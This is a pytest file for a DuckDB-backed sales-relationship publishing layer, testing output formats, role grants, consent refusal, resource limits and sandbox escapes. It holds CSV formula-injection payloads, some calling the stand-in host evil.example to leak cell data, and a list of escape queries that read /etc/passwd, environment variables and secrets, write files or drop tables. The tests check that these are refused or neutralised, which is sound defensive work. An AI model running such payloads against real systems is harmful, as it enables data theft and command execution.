from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from pathlib import Path

import pytest

from relationship_pipeline.domain.consent import ConsentState
from relationship_pipeline.errors import BadInput, ConsentRefused, PipelineError, Refused
from relationship_pipeline.publishing import roles
from relationship_pipeline.publishing.connection import Limits, open_published
from relationship_pipeline.publishing.formats import Format, inert
from relationship_pipeline.publishing.query import query
from relationship_pipeline.schemas import KPIS
from relationship_pipeline_tests.publishing.tenants import AS_OF, Tenant, company, tenant


def ask(made: Tenant, sql: str, output: Format = Format.JSON, role: str = "salesperson", **options: object) -> str:
    said: list[str] = []
    query(made.layout, sql, role, output, said.append, **options)  # type: ignore[arg-type]
    return "".join(said)


def test_json_is_a_list_of_objects_with_times_in_utc_and_nulls(published: Tenant) -> None:
    found = json.loads(
        ask(
            published,
            "select as_of, date '2026-03-01' as day, null as nothing, 1.5::decimal(9, 2) as ratio, "
            "sum(distinct_emails), ['a', 'b'] as list, {'at': as_of} as nested, 'nan'::double as nan, "
            "timestamp '2026-01-02 03:04:05' as plain, true as yes, "
            " -3 as minus, 'ü\n\"' as text, 1 as yes from batches group by as_of",
        )
    )
    (row,) = found
    assert datetime.fromisoformat(row["as_of"]) == AS_OF
    assert row["as_of"].endswith("Z")
    assert (row["day"], row["nothing"], row["ratio"], row["nan"]) == ("2026-03-01", None, 1.5, None)
    assert isinstance(row["sum(distinct_emails)"], int)
    assert (row["list"], row["nested"]) == (["a", "b"], {"at": row["as_of"]})
    assert (row["plain"], row["yes"], row["yes_2"], row["minus"]) == ("2026-01-02T03:04:05Z", True, 1, -3)
    assert row["text"] == 'ü\n"'
    assert json.loads(ask(published, "select 1 as a where false")) == []


def test_csv_has_a_header_line_feeds_bare_numbers_and_quotes_where_needed(published: Tenant) -> None:
    text = ask(
        published,
        "select 'a,b' as x, -1 as n, 2.5 as f, null as nothing, 'say \"hi\"' as said, true as t, as_of "
        "from batches limit 1",
        Format.CSV,
    )
    assert text == 'x,n,f,nothing,said,t,as_of\n"a,b",-1,2.5,,"say ""hi""",true,2026-11-20T06:30:00Z\n'


STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\v",
    "\f",
    "\0",
    "\x1b",
    "\x7f",
    "\u200b",
    "\ufeff",
    "＝",
    "＋",
    "－",
    "＠",
]
PAYLOADS = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    "1+1",
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
]


@pytest.mark.parametrize("start", STARTS, ids=lambda start: f"U+{ord(start):04X}")
def test_csv_is_inert_whatever_an_outsider_calls_himself(published: Tenant, start: str) -> None:
    """Reliability test 35: 72 payloads (OWASP list, full-width forms, control characters), as value and as header."""
    for payload in PAYLOADS:
        with_quotes = (start + payload).replace("'", "''")
        if start != "\0":
            text = ask(published, f"select '{with_quotes}' as x", Format.CSV)
            (header, cell) = list(csv.reader(io.StringIO(text, newline="")))
            assert cell[0] == "'" + start + payload
            alias = (start + payload).replace('"', '""')
            header, _ = list(csv.reader(io.StringIO(ask(published, f'select 1 as "{alias}"', Format.CSV), newline="")))
            assert header[0] == "'" + start + payload
        assert inert(start + payload) == "'" + start + payload


def test_csv_leaves_plain_text_and_negative_numbers_alone(published: Tenant) -> None:
    assert ask(published, "select 'a=b' as x, -2 as n, '' as empty", Format.CSV) == "x,n,empty\na=b,-2,\n"


def test_a_table_is_aligned_and_lets_no_escape_sequence_reach_the_terminal(published: Tenant) -> None:
    text = ask(
        published, "select 'a\x1b[2J\u202eb' as name, 12 as n union all select '東京', 5 order by n", Format.TABLE
    )
    lines = text.splitlines()
    assert lines[0].split() == ["name", "n"]
    assert lines[2].endswith(" 5")
    assert lines[3].startswith("a�[2J�b")
    assert lines[4] == "(2 rows)"
    assert "\x1b" not in text


def test_a_long_table_says_how_much_it_left_out(published: Tenant) -> None:
    text = ask(published, "select i from range(1200) t(i)", Format.TABLE)
    assert text.endswith("(1200 rows, 1000 shown; --format csv or json gives all)\n")


def test_V1_a_role_without_the_grant_is_told_who_can_give_it(tmp_path: Path) -> None:
    made = tenant(tmp_path, company(contacts=3))
    roles.grant(made.ledger, "analyst", KPIS)
    made.publish()
    assert json.loads(ask(made, "select count(*) n from contact_kpis", role="analyst")) == [{"n": 3}]
    with pytest.raises(Refused, match=r"role analyst has no grant who_knows_whom.*role grant analyst who_knows_whom"):
        ask(made, "with x as (select * from graph_edges) select count(*) from x", role="analyst")
    with pytest.raises(Refused, match="role guest has no grant kpis"):
        ask(made, "select 1", role="guest")
    with pytest.raises(Refused, match="there is no role auditor"):
        ask(made, "select 1", role="auditor")
    made.ledger.change_state(made.epoch.epoch, ConsentState.WITHDRAWN, now=AS_OF, reason="test")
    with pytest.raises(ConsentRefused, match="consent"):
        ask(made, "select 1")


def test_before_the_first_publication_the_way_there_is_named(tmp_path: Path) -> None:
    with pytest.raises(Refused, match="backfill"):
        ask(tenant(tmp_path, {}), "select 1")


@pytest.mark.parametrize(
    ("sql", "said"),
    [
        ("select nonsense from contact_kpis", 'Referenced column "nonsense" not found'),
        ("selec 1", "syntax error"),
        ("select * from contacts", "Table with name contacts does not exist"),
        ("select cast('x' as int)", "Could not convert"),
        ("", "exactly one SELECT"),
    ],
)
def test_an_sql_mistake_is_one_line(published: Tenant, sql: str, said: str) -> None:
    with pytest.raises(PipelineError, match=said) as caught:
        ask(published, sql)
    assert "\n" not in str(caught.value)


def test_a_query_that_takes_too_long_or_too_much_is_stopped(published: Tenant) -> None:
    with pytest.raises(Refused, match=r"stopped after 0.2 s"):
        ask(
            published,
            "select count(*) from range(100000) a, range(100000) b where a.range % 7 = b.range % 11",
            limits=Limits(timeout=0.2),
        )
    with pytest.raises(Refused, match="more memory"):
        ask(
            published,
            "select list(i order by hash(i)) from range(50000000) t(i)",
            limits=Limits(memory="64MiB", spill="1MiB"),
        )


ESCAPES = [
    "select * from read_csv('/etc/passwd')",
    "select * from read_csv_auto('/etc/passwd')",
    "select * from read_text('/etc/passwd')",
    "select * from read_blob('/etc/passwd')",
    "select * from read_json('/etc/passwd')",
    "select * from read_ndjson_objects('/etc/passwd')",
    "select * from read_parquet('/tmp/*.parquet')",
    "select * from parquet_metadata('/tmp/x.parquet')",
    "select * from sniff_csv('/etc/passwd')",
    "select * from glob('/etc/*')",
    "select * from '/etc/passwd'",
    "select * from 'x.parquet'",
    "select * from 'http://127.0.0.1/x.csv'",
    "select * from read_csv('http://127.0.0.1/x.csv')",
    "with t as (select * from read_text('/etc/passwd')) select * from t",
    "select (select content from read_text('/etc/hostname'))",
    "select * from query('select 1')",
    "select * from query_table('contact_kpis')",
    "select * from json_execute_serialized_sql(json_serialize_sql('select 1'))",
    "copy contact_kpis to '/tmp/out.csv'",
    "copy (select 1) to '/dev/stdout'",
    "copy contact_kpis from '/etc/passwd'",
    "export database '/tmp/out'",
    "import database '/tmp/out'",
    "attach '/tmp/other.duckdb'",
    "attach ':memory:' as m",
    "detach salesperson",
    "use memory",
    "install httpfs",
    "load httpfs",
    "load '/tmp/x.duckdb_extension'",
    "set enable_external_access = true",
    "set lock_configuration = false",
    "set memory_limit = '100GB'",
    "set temp_directory = '/tmp'",
    "reset memory_limit",
    "pragma enable_profiling",
    "pragma database_list",
    "pragma threads = 64",
    "call enable_logging()",
    "call pragma_version()",
    "create table x (a int)",
    "create temp table x as select 1",
    "create or replace view contact_kpis as select 1",
    "create macro f() as 1",
    "create secret s (type s3)",
    "create persistent secret s (type s3)",
    "insert into contact_kpis select * from contact_kpis",
    "update contact_kpis set health_score = 100",
    "delete from alerts",
    "drop table alerts",
    "alter table alerts rename to x",
    "truncate alerts",
    "vacuum",
    "checkpoint",
    "force checkpoint",
    "begin transaction",
    "prepare p as select 1",
    "execute p",
    "explain analyze select * from read_text('/etc/passwd')",
    "select 1; select 2",
    "select 1; drop table alerts",
    "select 1;; copy alerts to '/tmp/x.csv'",
    "select * from duckdb_settings()",
    "select * from duckdb_secrets()",
    "select * from duckdb_databases()",
    "select * from duckdb_databases",
    "select * from pragma_database_list",
    "select * from duckdb_temporary_files()",
    "select * from duckdb_logs",
    "select current_setting('temp_directory')",
    "select getenv('HOME')",
    "select write_log('x')",
    "select * from arrow_scan(1, 2, 3)",
    "select * from python_map_function()",
    "select * from a_python_variable",
    "select * from force_checkpoint('salesperson')",
    "select * from storage_info('contact_kpis')",
    "from repeat_row(1, num_rows = 9)",
    "/* select */ copy alerts to '/tmp/x.csv' -- select",
    "pivot (from read_csv('/etc/passwd')) on a using sum(b)",
    "comment on table alerts is 'x'",
]


@pytest.mark.parametrize("sql", ESCAPES)
def test_no_statement_escapes_the_published_file(published: Tenant, sql: str) -> None:
    """Reliability test 32: every probe is refused in one line and leaves nothing behind."""
    a_python_variable = [{"a": 1}]
    assert a_python_variable
    published_before = {path.name: path.stat().st_mtime_ns for path in published.epoch.published.iterdir()}
    with pytest.raises((Refused, BadInput)) as caught:
        ask(published, sql)
    assert "\n" not in str(caught.value)
    assert {path.name: path.stat().st_mtime_ns for path in published.epoch.published.iterdir()} == published_before
    assert not Path("/tmp/out.csv").exists()


ENGINE_REFUSES = (
    "select * from read_",
    "copy contact",
    "attach '",
    "install",
    "load",
    "set ",
    "insert",
    "update",
    "drop",
)
BENEATH = [sql for sql in ESCAPES if sql.startswith(ENGINE_REFUSES)]


@pytest.mark.parametrize("sql", BENEATH)
def test_the_connection_beneath_refuses_too(published: Tenant, sql: str) -> None:
    import duckdb

    with open_published(published.epoch, "salesperson") as connection, pytest.raises(duckdb.Error):
        connection.execute(sql).fetchall()


@pytest.mark.parametrize(
    "sql",
    [
        "select contact_email, health_score from contact_kpis where health_state = 'poor' order by all limit 5;",
        "with a as (select account_id, count(*) n from contact_kpis group by 1) from a join account_kpis using (account_id)",
        "describe contact_kpis",
        "show tables",
        "summarize batches",
        "from daily_activity select day, sum(emails_sent) group by day",
        "select table_name, comment from duckdb_tables()",
        "select column_name, comment from duckdb_columns() where table_name = 'alerts'",
        "select * from information_schema.columns",
        "select unnest([1, 2])",
        "values (1), (2)",
        "select * from (select 1 as a) t where a <= any(select emails_sent from contact_kpis)",
        "select contact_email, row_number() over (partition by account_id order by emails_sent desc) from contact_kpis",
        "select 1 union select 2",
        "with recursive t(n) as (select 1 union all select n + 1 from t where n < 5) select * from t",
    ],
)
def test_what_analysts_write_works(published: Tenant, sql: str) -> None:
    assert json.loads(ask(published, sql))
